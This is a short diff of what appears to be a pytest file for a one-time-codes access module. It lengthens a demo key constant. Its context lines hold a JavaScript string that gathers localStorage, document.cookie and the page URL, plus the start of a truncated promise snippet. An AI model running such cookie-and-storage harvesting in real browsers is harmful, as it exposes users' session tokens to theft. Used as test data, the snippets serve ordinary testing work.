@@ -9,7 +9,7 @@ import pytest
 
 from app.access.one_time_codes import OneTimeCodes
 
-KEY = "k3y-of-the-demo"
+KEY = "k3y-of-the-demo-of-32-characters"
 ELSEWHERE = "JSON.stringify([{...localStorage}, document.cookie, location.href, document.title])"
 ASK_OTHERS = """
 () => new Promise((resolve) => {
